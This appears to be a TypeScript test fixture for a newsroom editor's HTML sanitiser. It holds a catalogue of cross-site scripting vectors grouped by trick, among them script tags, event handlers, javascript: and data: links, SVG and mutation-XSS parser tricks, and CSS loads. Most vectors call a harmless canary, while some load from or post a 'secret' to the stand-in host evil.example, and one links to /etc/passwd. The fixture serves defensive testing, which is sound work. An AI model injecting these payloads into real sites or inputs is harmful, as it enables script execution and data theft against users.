/**
 * Hostile markup a newsroom receives in pastes, agency photo metadata and crafted draft files,
 * grouped by the trick each vector plays. Every vector that manages to run calls the canary
 * `__xss('<id>')` (directly, via `top.` from a frame, or as `alert`/`document.title` where only
 * that fits), so a test that installs the canary knows exactly which vector got through. Loads go to
 * `evil.example`, so a test watching requests sees any vector that reaches the network.
 *
 * The 'text' family is the opposite case: words that only look like markup (a maths comparison, a
 * tag named in a sentence). They must come out as the very same text, never as markup or nothing.
 */

export type XssFamily =
  | 'script'
  | 'handler'
  | 'link'
  | 'svg'
  | 'frame'
  | 'object'
  | 'meta'
  | 'base'
  | 'form'
  | 'css'
  | 'mxss'
  | 'text';

export interface XssVector {
  /** Short, unique, letters digits and dashes: it is also the canary's argument. */
  id: string;
  family: XssFamily;
  /** The markup as a hostile page or file carries it; for the 'text' family, the plain text itself. */
  payload: string;
  /** Harmless words of the payload that must survive as text wherever the payload is taken in. */
  keeps?: string;
}

/** The function every vector calls when it runs. */
export const CANARY = '__xss';
/** The host every loading vector points at: any request to it is a vector reaching the network. */
export const EVIL_HOST = 'evil.example';

const fire = (id: string): string => `${CANARY}('${id}')`;
const fireTop = (id: string): string => `top.${CANARY}('${id}')`;
const b64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');
/** "&#106;&#97;…" — every character as a decimal entity. */
const decimalEntities = (text: string): string => [...text].map((char) => `&#${char.codePointAt(0)!};`).join('');
/** "&#x6a;&#x61;…" — every character as a hex entity, zero-padded as filters forget. */
const hexEntities = (text: string): string => [...text].map((char) => `&#x00${char.codePointAt(0)!.toString(16)};`).join('');

const v = (family: XssFamily, id: string, payload: string, keeps?: string): XssVector => ({ id, family, payload, ...(keeps ? { keeps } : {}) });

const SCRIPT: XssVector[] = [
  v('script', 'script-plain', `<p>Script words</p><script>${fire('script-plain')}</script>`, 'Script words'),
  v('script', 'script-upper', `<SCRIPT>${fire('script-upper')}</SCRIPT>`),
  v('script', 'script-mixed-case-src', `<ScRiPt SrC="https://${EVIL_HOST}/x.js"></sCrIpT>`),
  v('script', 'script-nested', `<scr<script>ipt>${fire('script-nested')}</scr</script>ipt>`),
  v('script', 'script-broken-up', `<p>Broken up</p><scr\nipt>${fire('script-broken-up')}</script><script\n>${fire('script-broken-up')}</script\n>`, 'Broken up'),
  v('script', 'script-entities', `<p>&lt;script&gt;${fire('script-entities')}&lt;/script&gt; stays text</p>`, 'stays text'),
  v('script', 'script-in-attribute', `<p title="</p><script>${fire('script-in-attribute')}</script>">Titled words</p>`, 'Titled words'),
  v('script', 'script-self-closing', `<script src="data:text/javascript,${fire('script-self-closing')}"/>`),
  v('script', 'script-type-module', `<script type="module">${fire('script-type-module')}</script>`),
  v('script', 'script-unclosed', `<p>Before unclosed</p><script>${fire('script-unclosed')}`, 'Before unclosed'),
];

const HANDLER: XssVector[] = [
  v('handler', 'img-onerror', `<p>Picture words<img src=x onerror="${fire('img-onerror')}"></p>`, 'Picture words'),
  v('handler', 'img-onerror-unquoted', `<IMG SRC=/ onerror=${fire('img-onerror-unquoted')}>`),
  v('handler', 'img-onerror-backtick', `<img src=x:x onerror=\`${fire('img-onerror-backtick')}\`>`),
  v('handler', 'svg-onload', `<svg onload="${fire('svg-onload')}"></svg>`),
  v('handler', 'svg-slash-onload', `<svg/onload=${fire('svg-slash-onload')}>`),
  v('handler', 'body-onload', `<body onload="${fire('body-onload')}"><p>Body words</p></body>`, 'Body words'),
  v('handler', 'details-ontoggle', `<details open ontoggle="${fire('details-ontoggle')}"><summary>Summary words</summary></details>`, 'Summary words'),
  v('handler', 'video-onerror', `<video><source onerror="${fire('video-onerror')}"></video><video src=x onerror="${fire('video-onerror')}"></video>`),
  v('handler', 'audio-onerror', `<audio src=x onerror="${fire('audio-onerror')}"></audio>`),
  v('handler', 'input-autofocus', `<input autofocus onfocus="${fire('input-autofocus')}">`),
  v('handler', 'select-autofocus', `<select autofocus onfocus="${fire('select-autofocus')}"><option>Option words</option></select>`),
  v('handler', 'textarea-autofocus', `<textarea autofocus onfocus="${fire('textarea-autofocus')}">Area words</textarea>`),
  v('handler', 'div-onmouseover', `<div onmouseover="${fire('div-onmouseover')}" style="position:fixed;inset:0">Hover words</div>`, 'Hover words'),
  v('handler', 'p-onclick', `<p onclick="${fire('p-onclick')}">Click words</p>`, 'Click words'),
  v('handler', 'a-onfocus-tabindex', `<a href="https://example.com/" tabindex=1 autofocus onfocus="${fire('a-onfocus-tabindex')}">Focus link</a>`, 'Focus link'),
  v('handler', 'marquee-onstart', `<marquee onstart="${fire('marquee-onstart')}">Moving words</marquee>`),
  v('handler', 'style-onload', `<style onload="${fire('style-onload')}"></style>`),
  v('handler', 'handler-entity-name', `<img src=x o&#110;error="${fire('handler-entity-name')}">`),
  v('handler', 'handler-animationstart', `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${fire('handler-animationstart')}">Animated words</p>`, 'Animated words'),
];

const LINK: XssVector[] = [
  v('link', 'js-plain', `<a href="javascript:${fire('js-plain')}">Plain js link</a>`, 'Plain js link'),
  v('link', 'js-case', `<a href="JaVaScRiPt:${fire('js-case')}">Cased js link</a>`, 'Cased js link'),
  v('link', 'js-leading-space', `<a href="  \x01javascript:${fire('js-leading-space')}">Spaced js link</a>`, 'Spaced js link'),
  v('link', 'js-tab', `<a href="java\tscript:${fire('js-tab')}">Tabbed js link</a>`, 'Tabbed js link'),
  v('link', 'js-newline', `<a href="java\nscript:${fire('js-newline')}">Newline js link</a>`, 'Newline js link'),
  v('link', 'js-entity-tab', `<a href="java&#x09;script:${fire('js-entity-tab')}">Entity tab link</a>`, 'Entity tab link'),
  v('link', 'js-decimal-entities', `<a href="${decimalEntities('javascript:')}${fire('js-decimal-entities')}">Decimal link</a>`, 'Decimal link'),
  v('link', 'js-hex-entities', `<a href="${hexEntities('javascript')}&colon;${fire('js-hex-entities')}">Hex link</a>`, 'Hex link'),
  v('link', 'js-colon-entity', `<a href="javascript&colon;${fire('js-colon-entity')}">Colon entity link</a>`, 'Colon entity link'),
  v('link', 'vbscript', `<a href="vbscript:msgbox('vbscript')">VB link</a>`, 'VB link'),
  v('link', 'data-html', `<a href="data:text/html;base64,${b64(`<script>${fireTop('data-html')}</script>`)}">Data link</a>`, 'Data link'),
  v('link', 'data-html-plain', `<a href="DATA:text/html,<script>${fireTop('data-html-plain')}</script>">Data plain link</a>`, 'Data plain link'),
  v('link', 'area-href', `<map name=m><area shape=rect coords=0,0,9,9 href="javascript:${fire('area-href')}"></map>`),
  v('link', 'file-link', `<a href="file:///etc/passwd">File link</a>`, 'File link'),
  v('link', 'app-link', `<a href="app://newsdesk/media/x">App link</a>`, 'App link'),
];

const SVG: XssVector[] = [
  v('svg', 'svg-script', `<svg><script>${fire('svg-script')}</script></svg>`),
  v('svg', 'svg-script-href', `<svg><script href="data:text/javascript,${fire('svg-script-href')}"></script></svg>`),
  v('svg', 'svg-foreignobject', `<svg><foreignObject><iframe srcdoc="<script>${fireTop('svg-foreignobject')}</script>"></iframe><img src=x onerror="${fire('svg-foreignobject')}"></foreignObject></svg>`),
  v('svg', 'svg-animate-href', `<svg><a><animate attributeName=href values="javascript:${fire('svg-animate-href')}"/><text x=20 y=20>SVG anchor words</text></a></svg>`),
  v('svg', 'svg-set-href', `<svg><a xlink:href="#"><set attributeName="xlink:href" to="javascript:${fire('svg-set-href')}"/><text>Set words</text></a></svg>`),
  v('svg', 'svg-animate-onbegin', `<svg><animate onbegin="${fire('svg-animate-onbegin')}" attributeName=x dur=1s></svg>`),
  v('svg', 'svg-use-data', `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${fire('svg-use-data')}"/></svg>`)}#x"/></svg>`),
  v('svg', 'svg-use-xlink', `<svg><use xlink:href="https://${EVIL_HOST}/sprite.svg#x"/></svg>`),
  v('svg', 'svg-image-onerror', `<svg><image href="x" onerror="${fire('svg-image-onerror')}"/></svg>`),
];

const FRAME: XssVector[] = [
  v('frame', 'iframe-srcdoc', `<iframe srcdoc="<script>${fireTop('iframe-srcdoc')}</script>"></iframe>`),
  v('frame', 'iframe-srcdoc-entities', `<iframe srcdoc="&lt;img src=x onerror=&quot;${fireTop('iframe-srcdoc-entities')}&quot;&gt;"></iframe>`),
  v('frame', 'iframe-js-src', `<iframe src="javascript:${fireTop('iframe-js-src')}"></iframe>`),
  v('frame', 'iframe-data-src', `<iframe src="data:text/html,<script>${fireTop('iframe-data-src')}</script>"></iframe>`),
  v('frame', 'iframe-remote', `<iframe src="https://${EVIL_HOST}/frame"></iframe>`),
  v('frame', 'frameset', `<frameset onload="${fire('frameset')}"><frame src="javascript:${fireTop('frameset')}"></frameset>`),
];

const OBJECT: XssVector[] = [
  v('object', 'object-data-html', `<object data="data:text/html,<script>${fireTop('object-data-html')}</script>"></object>`),
  v('object', 'object-js', `<object data="javascript:${fire('object-js')}"></object>`),
  v('object', 'embed-data', `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${fireTop('embed-data')}"/>`)}">`),
  v('object', 'embed-js', `<embed src="javascript:${fire('embed-js')}">`),
  v('object', 'object-remote', `<object type="text/html" data="https://${EVIL_HOST}/object"></object>`),
];

const META: XssVector[] = [
  v('meta', 'meta-refresh-js', `<meta http-equiv="refresh" content="0;url=javascript:${fire('meta-refresh-js')}">`),
  v('meta', 'meta-refresh-data', `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(`<script>${fire('meta-refresh-data')}</script>`)}">`),
  v('meta', 'meta-refresh-remote', `<meta http-equiv="refresh" content="0; url=https://${EVIL_HOST}/refresh">`),
  v('meta', 'meta-csp-override', `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`),
];

const BASE: XssVector[] = [
  v('base', 'base-js', `<base href="javascript:${fire('base-js')}//"><a href="/relative">Relative link</a>`, 'Relative link'),
  v('base', 'base-remote', `<base href="https://${EVIL_HOST}/"><img src="pixel.png">`),
];

const FORM: XssVector[] = [
  v('form', 'form-action', `<form action="javascript:${fire('form-action')}"><button>Send words</button></form>`, 'Send words'),
  v('form', 'button-formaction', `<form><button formaction="javascript:${fire('button-formaction')}">Go words</button></form>`, 'Go words'),
  v('form', 'input-image', `<input type="image" src="x" onerror="${fire('input-image')}">`),
  v('form', 'isindex', `<isindex type=image src=1 onerror="${fire('isindex')}">`),
  v('form', 'form-remote', `<form action="https://${EVIL_HOST}/collect" method=post><input name=q value=secret></form>`),
];

const CSS: XssVector[] = [
  v('css', 'css-expression', `<p style="width:expression(${fire('css-expression')})">Expression words</p>`, 'Expression words'),
  v('css', 'css-url-js', `<p style="background-image:url(javascript:${fire('css-url-js')})">Background words</p>`, 'Background words'),
  v('css', 'css-url-remote', `<p style="background:url('https://${EVIL_HOST}/bg.png')">Remote background</p>`, 'Remote background'),
  v('css', 'css-behavior', `<p style="behavior:url(https://${EVIL_HOST}/x.htc)">Behavior words</p>`, 'Behavior words'),
  v('css', 'css-moz-binding', `<p style="-moz-binding:url(https://${EVIL_HOST}/x.xml#xss)">Binding words</p>`, 'Binding words'),
  v('css', 'css-import', `<style>@import 'https://${EVIL_HOST}/x.css';</style>`),
  v('css', 'css-import-js', `<style>@import url("javascript:${fire('css-import-js')}");</style>`),
  v('css', 'css-link-stylesheet', `<link rel="stylesheet" href="https://${EVIL_HOST}/sheet.css">`),
  v('css', 'css-escaped-expression', `<p style="xss:ex/**/pre\\73sion(${fire('css-escaped-expression')})">Escaped words</p>`, 'Escaped words'),
  v('css', 'css-font-face', `<style>@font-face{font-family:x;src:url(https://${EVIL_HOST}/font.woff)}p{font-family:x}</style>`),
];

const MXSS: XssVector[] = [
  v('mxss', 'noscript-title', `<noscript><p title="</noscript><img src=x onerror=${fire('noscript-title')}>"></noscript>`),
  v('mxss', 'title-breakout', `<title><img src=x onerror="${fire('title-breakout')}"></title><p>After title</p>`, 'After title'),
  v('mxss', 'textarea-breakout', `<textarea><img title="</textarea><img src=x onerror=${fire('textarea-breakout')}>"></textarea>`),
  v('mxss', 'template-script', `<template><script>${fire('template-script')}</script><img src=x onerror="${fire('template-script')}"></template>`),
  v('mxss', 'svg-style-namespace', `<svg></p><style><a id="</style><img src=1 onerror=${fire('svg-style-namespace')}>">`),
  v('mxss', 'math-mglyph-style', `<math><mtext><table><mglyph><style><img src=x onerror="${fire('math-mglyph-style')}">`),
  v('mxss', 'form-math-nesting', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${fire('form-math-nesting')}>`),
  v('mxss', 'svg-cdata', `<svg><desc><![CDATA[</desc><script>${fire('svg-cdata')}</script>]]></svg>`),
  v('mxss', 'comment-breakout', `<!--><img src=x onerror="${fire('comment-breakout')}">--><p>After comment</p>`, 'After comment'),
  v('mxss', 'noembed-title', `<noembed><img title="</noembed><img src onerror=${fire('noembed-title')}>"></noembed>`),
  v('mxss', 'xmp-breakout', `<xmp><img title="</xmp><img src=x onerror=${fire('xmp-breakout')}>"></xmp>`),
  v('mxss', 'style-in-svg-title', `<svg><title><style><img src=x onerror="${fire('style-in-svg-title')}"></style></title></svg>`),
];

const TEXT: XssVector[] = [
  v('text', 'text-comparison', 'Inflation < 3% and growth > 2% & rising', 'Inflation < 3% and growth > 2% & rising'),
  v('text', 'text-tag-named', 'Editors wrap bold in <b> and italics in <i>, never <script>', 'Editors wrap bold in <b> and italics in <i>, never <script>'),
  v('text', 'text-escaped', 'The page showed &lt;script&gt; literally', 'The page showed &lt;script&gt; literally'),
  v('text', 'text-heart', 'Fans wrote <3 and >:( under the post', 'Fans wrote <3 and >:( under the post'),
  v('text', 'text-js-scheme', 'Book review: javascript: the good parts', 'Book review: javascript: the good parts'),
  v('text', 'text-handler-words', 'The onerror="alert(1)" trick is old news', 'The onerror="alert(1)" trick is old news'),
  v('text', 'text-code', 'if (a<b && c>d) { alert(\'x\') }', 'if (a<b && c>d) { alert(\'x\') }'),
  v('text', 'text-quotes', 'He said "it\'s <over>" & left', 'He said "it\'s <over>" & left'),
];

export const XSS_CORPUS: readonly XssVector[] = [
  ...SCRIPT, ...HANDLER, ...LINK, ...SVG, ...FRAME, ...OBJECT, ...META, ...BASE, ...FORM, ...CSS, ...MXSS, ...TEXT,
];

/** The markup vectors (everything but the look-alike text). */
export const MARKUP_VECTORS: readonly XssVector[] = XSS_CORPUS.filter((vector) => vector.family !== 'text');
export const TEXT_VECTORS: readonly XssVector[] = XSS_CORPUS.filter((vector) => vector.family === 'text');

export function escapeForHtml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** The vector as a web page puts it on the clipboard: markup as is, look-alike text escaped. */
export function asClipboardHtml(vector: XssVector): string {
  return vector.family === 'text' ? `<p>${escapeForHtml(vector.payload)}</p>` : vector.payload;
}

/**
 * The canary and its record, as a script to run in a page before anything else: every vector that
 * runs calls `__xss(id)`, and alert/confirm/prompt/print record themselves too (the dialog would
 * also show up as a Playwright `dialog` event).
 */
export const CANARY_INIT_SCRIPT = `(() => {
  const fired = [];
  Object.defineProperty(window, '__xssFired', { value: fired });
  window.${CANARY} = (id) => { fired.push(String(id)); };
  for (const name of ['alert', 'confirm', 'prompt', 'print']) {
    const original = window[name];
    window[name] = function (...args) { fired.push(name + ':' + String(args[0])); return original.apply(this, args); };
  }
})();`;
